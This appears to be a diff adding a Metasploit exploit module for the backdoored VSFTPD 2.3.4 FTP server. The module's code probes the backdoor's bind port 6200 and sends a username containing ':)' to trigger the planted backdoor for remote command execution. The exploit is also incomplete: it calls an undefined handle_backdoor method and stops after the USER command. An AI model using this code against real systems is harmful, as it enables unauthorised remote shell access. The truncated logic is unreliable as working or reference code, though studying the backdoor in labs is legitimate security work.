@@ -0,0 +1,76 @@
+##
+# This module requires Metasploit: https://metasploit.com/download
+# Current source: https://github.com/rapid7/metasploit-framework
+##
+
+class MetasploitModule < Msf::Exploit::Remote
+  Rank = ExcellentRanking
+
+  include Msf::Exploit::Remote::Tcp
+
+  def initialize(info = {})
+    super(
+      update_info(
+        info,
+        'Name' => 'VSFTPD v2.3.4 Backdoor Command Execution',
+        'Description' => %q{
+          This module exploits a malicious backdoor that was added to the VSFTPD download
+          archive. This backdoor was introduced into the vsftpd-2.3.4.tar.gz archive between
+          June 30th 2011 and July 1st 2011 according to the most recent information
+          available. This backdoor was removed on July 3rd 2011.
+        },
+        'Author' => [ 'hdm', 'MC <mc@metasploit.com>' ],
+        'License' => MSF_LICENSE,
+        'References' => [
+          [ 'OSVDB', '73573'],
+          [ 'URL', 'http://pastebin.com/AetT9sS5'],
+          [ 'URL', 'http://scarybeastsecurity.blogspot.com/2011/07/alert-vsftpd-download-backdoored.html' ],
+        ],
+        'Privileged' => true,
+        'Platform' => [ 'unix' ],
+        'Arch' => ARCH_CMD,
+        'Payload' => {
+          'Space' => 2000,
+          'BadChars' => '',
+          'DisableNops' => true,
+          'Compat' =>
+            {
+              'PayloadType' => 'cmd_interact',
+              'ConnectionType' => 'find'
+            }
+        },
+        'Targets' => [
+          [ 'Automatic', {} ],
+        ],
+        'DisclosureDate' => '2011-07-03',
+        'DefaultTarget' => 0,
+        'Notes' => {
+          'Stability' => [CRASH_SERVICE_RESTARTS],
+          'Reliability' => [REPEATABLE_SESSION],
+          'SideEffects' => [IOC_IN_LOGS]
+        }
+      )
+    )
+
+    register_options([ Opt::RPORT(21) ])
+  end
+
+  def exploit
+    nsock = self.connect(false, { 'RPORT' => 6200 }) rescue nil
+    if nsock
+      print_status("The port used by the backdoor bind listener is already open")
+      handle_backdoor(nsock)
+      return
+    end
+
+    # Connect to the FTP service port first
+    connect
+
+    banner = sock.get_once(-1, 30).to_s
+    print_status("Banner: #{banner.strip}")
+
+    sock.put("USER #{rand_text_alphanumeric(rand(6..11))}:)\r\n")
+    resp = sock.get_once(-1, 30).to_s
+    print_status("USER: #{resp.strip}")
+  end
+end